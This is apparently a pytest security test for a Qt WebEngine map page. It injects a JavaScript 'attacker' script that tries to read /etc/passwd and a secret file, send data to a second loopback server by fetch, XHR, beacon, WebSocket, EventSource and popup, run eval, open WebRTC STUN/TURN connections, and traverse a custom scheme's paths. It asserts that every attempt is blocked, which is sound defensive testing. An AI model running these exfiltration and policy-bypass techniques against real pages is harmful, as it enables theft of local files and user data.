"""Issue 12 (6): the map page locked down, attacked from inside.

The attacker has a script running on the map page (a hostile text that one day slips past the
escaping, a tampered vendored file): ``runJavaScript`` plays that script here, in the page's own
world, under the page's own policy. It tries to read local files (``/etc/passwd`` and a secret
file beside the page) by fetch, XHR, ``<img>``, ``<script>``, ``<iframe>`` and ``<link>``, to send
to the tile server's host on another port (fetch, XHR, image, script, WebSocket, beacon,
EventSource), to reach the tile server under another host name, to run code by ``eval`` and by
an injected inline script, and to open a WebRTC connection (STUN over UDP, TURN over TCP).

Real servers listen on loopback: the configured tile server on one port, an "exfiltration"
server on another. The tile server must receive the map's tile requests, and only those; the
other must receive nothing at all.
"""
from __future__ import annotations

import json
import logging
import re
import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from db.geo import map_data
from desktop.map import page as map_page
from tests.desktop.map.test_map import JsLog, js
from tests.helpers import CENTRE

# A 1x1 transparent PNG: what the tile server answers for every tile.
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000100e527de"
    "fc0000000049454e44ae426082")
TILE_PATH = re.compile(r"^/\d+/\d+/\d+\.png$")
LOAD_TIMEOUT_MS = 30_000


class Recorder(ThreadingHTTPServer):
    """An HTTP server on 127.0.0.1 that records every request (method, Host header, path)."""

    daemon_threads = True

    def __init__(self) -> None:
        self.seen: list[tuple[str, str, str]] = []
        self.lock = threading.Lock()
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def _any(self) -> None:
                with recorder.lock:
                    recorder.seen.append((self.command, self.headers.get("Host", ""), self.path))
                body = PNG
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Access-Control-Allow-Origin", "*")  # would not help: still refused
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_PUT = do_OPTIONS = _any  # noqa: N815 - http.server's names

            def log_message(self, *_args) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.port = self.server_address[1]
        self.thread = threading.Thread(target=self.serve_forever, daemon=True)
        self.thread.start()

    def requests(self) -> list[tuple[str, str, str]]:
        with self.lock:
            return list(self.seen)

    def close(self) -> None:
        self.shutdown()
        self.server_close()


class Listeners:
    """A UDP socket (where a STUN request would land) and a TCP listener (TURN over TCP), on
    loopback; ``received()`` says whether anything reached either."""

    def __init__(self) -> None:
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.setblocking(False)
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(4)
        self.tcp.setblocking(False)
        self.udp_port = self.udp.getsockname()[1]
        self.tcp_port = self.tcp.getsockname()[1]

    def received(self) -> list[str]:
        got = []
        try:
            data, peer = self.udp.recvfrom(2048)
            got.append(f"udp {len(data)} bytes from {peer}")
        except BlockingIOError:
            pass
        try:
            conn, peer = self.tcp.accept()
            got.append(f"tcp connection from {peer}")
            conn.close()
        except BlockingIOError:
            pass
        return got

    def close(self) -> None:
        self.udp.close()
        self.tcp.close()


@pytest.fixture
def servers():
    tiles, other = Recorder(), Recorder()
    yield tiles, other
    tiles.close()
    other.close()


@pytest.fixture
def js_log():
    handler = JsLog()
    logger = logging.getLogger("cityops.map.js")
    logger.addHandler(handler)
    yield handler
    logger.removeHandler(handler)


@pytest.fixture
def make_view(qtbot):
    from PySide6.QtCore import QCoreApplication, QEvent

    from desktop.map.view import MapView

    made = []

    def make(path, tile_url=None):
        view = MapView(path, tile_url=tile_url)
        made.append(view)
        view.resize(1000, 700)
        view.show()
        with qtbot.waitSignal(view.sig_ready, timeout=LOAD_TIMEOUT_MS):
            pass
        return view

    yield make
    for view in made:
        view.close()
        view.deleteLater()
    QCoreApplication.sendPostedEvents(None, QEvent.Type.DeferredDelete)


@pytest.fixture
def listeners():
    made = Listeners()
    yield made
    made.close()


@pytest.fixture
def base(sqlite_env):
    with sqlite_env.database.read() as s:
        return map_data.base_layers(s, sqlite_env.city_id)


@pytest.fixture
def secret(tmp_path):
    """A file beside the page that a script must not read (the workstation's key, say)."""
    path = tmp_path / "map" / "secret.txt"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("TOP-SECRET-KEY-0451\n", encoding="utf-8")
    return path


def tile_url_for(port: int) -> str:
    return f"http://127.0.0.1:{port}/{{z}}/{{x}}/{{y}}.png"


# The attacker's script. Every attempt records "read:<first bytes>" / "loaded" when it got
# through, "blocked:<how>" when it did not; window.__attack.done when all have settled.
ATTACK = r"""
(function (files, other, tilePort, udp, tcp) {
  var R = {};
  window.__attack = {done: false, results: R};
  function later(ms) { return new Promise(function (ok) { setTimeout(ok, ms); }); }
  async function viaFetch(name, url, opts) {
    try {
      var r = await fetch(url, opts);
      R[name] = 'read:' + (await r.text()).slice(0, 40);
    } catch (e) { R[name] = 'blocked:' + (e && e.name); }
  }
  function viaXhr(name, url) {
    return new Promise(function (done) {
      try {
        var x = new XMLHttpRequest();
        x.open('GET', url);
        x.onload = function () { R[name] = 'read:' + String(x.responseText).slice(0, 40); done(); };
        x.onerror = function () { R[name] = 'blocked:error'; done(); };
        x.send();
      } catch (e) { R[name] = 'blocked:' + e.name; done(); }
    });
  }
  function viaElement(name, tag, attr, url, extra) {
    return new Promise(function (done) {
      var node = document.createElement(tag);
      if (extra) { extra(node); }
      node.onload = function () {
        if (tag === 'iframe') {
          var text = null;
          try { text = node.contentDocument && node.contentDocument.body &&
                       node.contentDocument.body.textContent; } catch (e) { text = null; }
          R[name] = text ? 'read:' + text.slice(0, 40) : 'blocked:opaque';
        } else {
          R[name] = 'loaded';
        }
        done();
      };
      node.onerror = function () { R[name] = 'blocked:error'; done(); };
      node[attr] = url;
      document.body.appendChild(node);
      setTimeout(function () { if (!(name in R)) { R[name] = 'blocked:silent'; } done(); }, 3000);
    });
  }
  function viaSocket(name, url) {
    return new Promise(function (done) {
      try {
        var ws = new WebSocket(url);
        ws.onopen = function () { R[name] = 'loaded'; done(); };
        ws.onerror = function () { R[name] = 'blocked:error'; done(); };
      } catch (e) { R[name] = 'blocked:' + e.name; done(); }
      setTimeout(function () { if (!(name in R)) { R[name] = 'blocked:silent'; } done(); }, 3000);
    });
  }
  function viaEventSource(name, url) {
    return new Promise(function (done) {
      try {
        var es = new EventSource(url);
        es.onopen = function () { R[name] = 'loaded'; es.close(); done(); };
        es.onerror = function () { R[name] = 'blocked:error'; es.close(); done(); };
      } catch (e) { R[name] = 'blocked:' + e.name; done(); }
      setTimeout(function () { if (!(name in R)) { R[name] = 'blocked:silent'; } done(); }, 3000);
    });
  }
  async function webrtc() {
    var PC = window.RTCPeerConnection || window.webkitRTCPeerConnection;
    R.rtc_constructor = typeof PC === 'function' ? 'loaded' : 'blocked:' + typeof PC;
    // A fresh frame has fresh globals: try to take the constructor from one, every way.
    var found = [];
    function grab(get) {
      try { found.push(get()); } catch (e) { found.push('error:' + e.name); }
    }
    function indexOf(win) {
      for (var i = 0; i < window.length; i++) { if (window[i] === win) { return i; } }
      return -1;
    }
    var frame = document.createElement('iframe');
    document.body.appendChild(frame);
    grab(function () { return frame.contentWindow.RTCPeerConnection; });
    grab(function () { return window[window.length - 1].RTCPeerConnection; });
    var nested = frame.contentDocument.createElement('iframe');
    frame.contentDocument.body.appendChild(nested);
    grab(function () { return window[window.length - 1][0].RTCPeerConnection; });
    var box = document.createElement('div');
    box.innerHTML = '<iframe name="byname"></iframe>';
    document.body.appendChild(box);
    grab(function () { return window.byname.RTCPeerConnection; });
    document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');
    grab(function () { return window[window.length - 1].RTCPeerConnection; });
    var srcdoc = document.createElement('iframe');
    srcdoc.srcdoc = '<p>x</p>';
    document.body.appendChild(srcdoc);
    grab(function () { return srcdoc.contentWindow.RTCPeerConnection; });
    await later(300);  // the srcdoc frame has navigated: a new window
    grab(function () { return window[indexOf(srcdoc.contentWindow)].RTCPeerConnection; });
    R.rtc_frames_tried = found.length;
    var FPC = found.filter(function (c) { return typeof c === 'function'; })[0];
    R.rtc_frame_constructor = FPC ? 'loaded' : 'blocked:undefined';
    var Ctor = PC || FPC;
    try {
      var pc = new Ctor({iceServers: [
        {urls: 'stun:127.0.0.1:' + udp},
        {urls: 'turn:127.0.0.1:' + tcp + '?transport=tcp', username: 'u', credential: 'c'}]});
      pc.createDataChannel('x');
      await pc.setLocalDescription(await pc.createOffer());
      await later(2500);
      R.rtc_connection = 'loaded';
    } catch (e) { R.rtc_connection = 'blocked:' + (e && e.name); }
  }
  async function run() {
    var jobs = [];
    files.forEach(function (file, k) {
      var url = 'file://' + file;
      jobs.push(viaFetch('file_fetch_' + k, url));
      jobs.push(viaXhr('file_xhr_' + k, url));
      jobs.push(viaElement('file_img_' + k, 'img', 'src', url));
      jobs.push(viaElement('file_script_' + k, 'script', 'src', url));
      jobs.push(viaElement('file_iframe_' + k, 'iframe', 'src', url));
      jobs.push(viaElement('file_css_' + k, 'link', 'href', url,
                           function (n) { n.rel = 'stylesheet'; }));
    });
    jobs.push(viaFetch('qrc_fetch', 'qrc:///qtwebchannel/qwebchannel.js'));
    // The app's own scheme serves its allow-list only: not the project's other files.
    jobs.push(viaElement('scheme_script', 'script', 'src', 'cityops://map/desktop/map/view.py'));
    jobs.push(viaElement('scheme_dotdot', 'script', 'src',
                         'cityops://map/vendor/leaflet-1.9.4/%2e%2e/%2e%2e/%2e%2e/README.md'));
    jobs.push(viaElement('scheme_license', 'img', 'src', 'cityops://map/vendor/leaflet-1.9.4/LICENSE'));
    jobs.push(viaFetch('scheme_fetch', 'cityops://map/page.html'));
    var away = 'http://127.0.0.1:' + other;
    jobs.push(viaFetch('other_fetch', away + '/fetch?d=secret'));
    jobs.push(viaFetch('other_post', away + '/post', {method: 'POST', body: 'secret', mode: 'no-cors'}));
    jobs.push(viaXhr('other_xhr', away + '/xhr?d=secret'));
    jobs.push(viaElement('other_img', 'img', 'src', away + '/img.png?d=secret'));
    jobs.push(viaElement('other_script', 'script', 'src', away + '/script.js?d=secret'));
    jobs.push(viaElement('other_css', 'link', 'href', away + '/style.css?d=secret',
                         function (n) { n.rel = 'stylesheet'; }));
    jobs.push(viaElement('other_iframe', 'iframe', 'src', away + '/frame?d=secret'));
    jobs.push(viaSocket('other_ws', 'ws://127.0.0.1:' + other + '/ws?d=secret'));
    jobs.push(viaEventSource('other_sse', away + '/sse?d=secret'));
    // sendBeacon answers "queued" either way: whether it got out is the server's to say.
    try { navigator.sendBeacon(away + '/beacon', 'secret'); } catch (e) { /* refused */ }
    try {
      var w = window.open(away + '/popup?d=secret');
      R.other_window = w ? 'loaded' : 'blocked:null';
    } catch (e) { R.other_window = 'blocked:' + e.name; }
    // The tile server itself takes images only: no fetch, no XHR (no way to post data).
    var tiles = 'http://127.0.0.1:' + tilePort;
    jobs.push(viaFetch('tile_fetch', tiles + '/fetch?d=secret'));
    jobs.push(viaXhr('tile_xhr', tiles + '/xhr?d=secret'));
    // The tile server's port under another host name: the origin is host AND port.
    jobs.push(viaElement('tile_other_host', 'img', 'src',
                         'http://localhost:' + tilePort + '/9/1/1.png?d=secret'));
    // Code from text.
    try { R.eval = 'loaded:' + eval('1 + 1'); } catch (e) { R.eval = 'blocked:' + e.name; }
    try { R.function = 'loaded:' + (new Function('return 2'))(); } catch (e) { R.function = 'blocked:' + e.name; }
    var inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true;';
    document.body.appendChild(inline);
    jobs.push(webrtc());
    await Promise.all(jobs);
    await later(300);
    R.inline_script = window.__inlineRan ? 'loaded' : 'blocked:not run';
    window.__attack.done = true;
  }
  run().catch(function (e) { R.crash = String(e && e.stack || e); window.__attack.done = true; });
  return true;
})(__ARGS__)
"""


def attack(qtbot, view, files, other_port, tile_port, listeners) -> dict:
    args = ", ".join(json.dumps(a) for a in (files, other_port, tile_port, listeners.udp_port,
                                             listeners.tcp_port))
    view.run_js(ATTACK.replace("__ARGS__", args))
    qtbot.waitUntil(lambda: js(qtbot, view, "!!(window.__attack && window.__attack.done)") is True,
                    timeout=30_000)
    return js(qtbot, view, "window.__attack.results")


def test_an_injected_script_reads_no_file_and_reaches_no_port_but_the_tiles(
        qtbot, base, tmp_path, servers, secret, listeners, make_view, js_log):
    tiles, other = servers
    tile_url = tile_url_for(tiles.port)
    view = make_view(map_page.build_map_page(base, tmp_path / "map", tile_url=tile_url), tile_url)
    # The map works: the tile server is asked for tiles, by the page, over its one port.
    qtbot.waitUntil(lambda: len(tiles.requests()) >= 4, timeout=15_000)

    results = attack(qtbot, view, ["/etc/passwd", str(secret)], other.port, tiles.port, listeners)
    qtbot.wait(500)  # anything that got out has arrived by now

    expected = {f"file_{how}_{k}" for how in ("fetch", "xhr", "img", "script", "iframe", "css")
                for k in (0, 1)} | {
        "qrc_fetch", "scheme_script", "scheme_dotdot", "scheme_license", "scheme_fetch",
        "other_fetch", "other_post", "other_xhr", "other_img", "other_script", "other_css",
        "other_iframe", "other_ws", "other_sse", "other_window", "tile_fetch", "tile_xhr",
        "tile_other_host", "eval", "function", "inline_script", "rtc_constructor",
        "rtc_frame_constructor", "rtc_connection", "rtc_frames_tried"}
    assert set(results) == expected, (set(results) ^ expected, results.get("crash"))
    assert results.pop("rtc_frames_tried") == 7
    got_through = {name: r for name, r in results.items() if not r.startswith("blocked:")}
    assert got_through == {}
    text = json.dumps(results)
    assert "root:" not in text and "TOP-SECRET" not in text

    # Nothing reached the other port, whatever the way.
    assert other.requests() == []
    # The tile server saw tiles only: GETs of /z/x/y.png under its configured host:port,
    # none of the attacker's fetch/XHR, none under the name "localhost".
    seen = tiles.requests()
    assert seen and all(m == "GET" and h == f"127.0.0.1:{tiles.port}" and TILE_PATH.match(p)
                        for m, h, p in seen), seen
    # No STUN packet, no TURN connection.
    assert listeners.received() == []

    # ... and the map still works: markers, and a click reaches the application.
    view.apply_batch({"cases": {"upsert": [{"id": 7, "lat": CENTRE[0], "lon": CENTRE[1],
                                            "status": "on_track"}]}})
    qtbot.waitUntil(lambda: js(qtbot, view, "cityops.hasCase(7)") is True, timeout=10_000)
    with qtbot.waitSignal(view.sig_case_clicked, timeout=10_000) as clicked:
        assert js(qtbot, view, "cityops._fireCaseClick(7)") is True
    assert clicked.args == [7]
    js_log.messages.clear()  # the policy's refusals are reported on the console: expected


def test_webrtc_sends_no_udp_even_from_a_world_that_kept_its_constructor(
        qtbot, base, tmp_path, listeners, make_view, js_log):
    """The second lock, under the page's: Chromium's WebRTC IP policy (a switch Qt honours,
    ``desktop.map.scheme.CHROMIUM_FLAGS``) sends no UDP outside a proxy. Played from the
    application's own isolated world, where the page's lock does not reach: no STUN request
    reaches the UDP port (TURN over TCP is not covered by any switch: the page's lock is what
    stops it, see the test above)."""
    from PySide6.QtWebEngineCore import QWebEngineScript

    view = make_view(map_page.build_map_page(base, tmp_path / "map"))
    script = (
        "(async function () {"
        f" var pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{listeners.udp_port}'}}]}});"
        " pc.createDataChannel('x');"
        " await pc.setLocalDescription(await pc.createOffer());"
        " window.__offered = true; })(); typeof RTCPeerConnection")
    box = []
    view.page.runJavaScript(script, QWebEngineScript.ScriptWorldId.ApplicationWorld, box.append)
    qtbot.waitUntil(lambda: bool(box), timeout=5000)
    assert box == ["function"]  # this world has WebRTC: the policy switch alone is tested
    qtbot.wait(2500)
    assert listeners.received() == []
    js_log.messages.clear()


def test_the_scheme_serves_its_allow_list_only(qtbot, base, tmp_path, make_view, js_log):
    from desktop.map.scheme import ASSETS

    view = make_view(map_page.build_map_page(base, tmp_path / "map"))
    handler = view.scheme_handler
    # What the page loaded came from the allow-list, and the page itself.
    assert set(handler.served) <= set(ASSETS) | {"/page.html"}
    assert {"/page.html", "/vendor/leaflet-1.9.4/leaflet.js", "/qtwebchannel/qwebchannel.js",
            "/map/cityops_map.js"} <= set(handler.served)
    # Every other path of the project (and a query string, another host) is refused.
    probes = ["cityops://map/desktop/map/view.py", "cityops://map/resources/map/cityops_map.js",
              "cityops://map/vendor/leaflet-1.9.4/LICENSE", "cityops://map/page.html?x=1",
              "cityops://other/page.html", "cityops://map/etc/passwd"]
    view.run_js(json.dumps(probes) + ".forEach(function (u) { var i = new Image(); i.src = u; "
                "document.body.appendChild(i); }); 1")
    # (the page's img-src allows cityops://map only: the other host is refused before it asks)
    qtbot.waitUntil(lambda: len(handler.refused) >= len(probes) - 1, timeout=5000)
    assert set(handler.refused) == set(probes) - {"cityops://other/page.html"}
    js_log.messages.clear()


def test_the_page_policy_hashes_every_inline_script_and_allows_no_eval(base):
    url = "http://{s}.tiles.intranet:8080/{z}/{x}/{y}.png"
    html = map_page.render_map_html(base, tile_url=url)
    meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
    assert meta and html.index(meta.group(0)) < html.index("<script")  # before any script
    policy = dict(d.strip().split(" ", 1) for d in meta.group(1).replace("&#x27;", "'").split(";"))
    assert policy["default-src"] == "'none'"
    assert policy["connect-src"] == "'none'"
    scripts = policy["script-src"].split()
    assert "'unsafe-eval'" not in scripts and "'unsafe-inline'" not in scripts
    inline = re.findall(r"<script>(.*?)</script>", html, re.DOTALL)
    assert len(inline) >= 2  # folium's: the map, its layers, cityops.init
    import base64
    import hashlib

    for body in inline:
        digest = base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in scripts
    assert scripts[0] == "cityops://map" and len(scripts) == 1 + len(set(inline))
    assert policy["img-src"].split() == ["cityops://map", "http://a.tiles.intranet:8080",
                                         "http://b.tiles.intranet:8080",
                                         "http://c.tiles.intranet:8080", "data:"]


def test_a_tile_setting_with_a_password_or_no_fixed_host_is_not_used(qapp, caplog):
    from PySide6.QtCore import QSettings

    settings = QSettings()
    try:
        for bad in ("http://user:secret@tiles.intranet/{z}/{x}/{y}.png",
                    "http://{z}.tiles.intranet/{x}/{y}.png", "file:///srv/{z}/{x}/{y}.png"):
            settings.setValue(map_page.TILE_URL_SETTING, bad)
            assert map_page.configured_tile_url(settings) is None
        good = "http://tiles.intranet:8080/{z}/{x}/{y}.png"
        settings.setValue(map_page.TILE_URL_SETTING, good)
        assert map_page.configured_tile_url(settings) == good
    finally:
        settings.remove(map_page.TILE_URL_SETTING)
    assert "is not used" in caplog.text
    assert "secret" not in caplog.text  # the password is never written to the log


def test_the_interceptor_allows_by_scheme_host_and_port():
    from PySide6.QtCore import QUrl
    from PySide6.QtWebEngineCore import QWebEngineUrlRequestInfo

    from desktop.map.view import MapRequestInterceptor

    image = QWebEngineUrlRequestInfo.ResourceType.ResourceTypeImage
    xhr = QWebEngineUrlRequestInfo.ResourceType.ResourceTypeXhr
    interceptor = MapRequestInterceptor("http://{s}.tiles.intranet:8080/{z}/{x}/{y}.png")
    allowed = ["http://a.tiles.intranet:8080/1/2/3.png", "http://C.tiles.intranet:8080/9/9/9.png"]
    refused = ["http://a.tiles.intranet/1/2/3.png",          # port 80, not 8080
               "http://a.tiles.intranet:8081/1/2/3.png",     # another port
               "https://a.tiles.intranet:8080/1/2/3.png",    # another scheme
               "http://d.tiles.intranet:8080/1/2/3.png",     # not one of {s}
               "http://a.tiles.intranet.evil:8080/1/2/3.png",
               "http://u:p@a.tiles.intranet:8080/1/2/3.png",
               "file:///etc/passwd", "qrc:///qtwebchannel/qwebchannel.js",
               "data:image/png;base64,AAAA", "ws://a.tiles.intranet:8080/"]
    assert [u for u in allowed if not interceptor.allows(QUrl(u), image)] == []
    assert [u for u in refused if interceptor.allows(QUrl(u), image)] == []
    assert not interceptor.allows(QUrl(allowed[0]), xhr)  # images only, even from the tiles
    assert interceptor.allows(QUrl("cityops://map/page.html"), xhr)
    assert not interceptor.allows(QUrl("cityops://elsewhere/page.html"), image)
    without = MapRequestInterceptor(None)
    assert not without.allows(QUrl(allowed[0]), image)
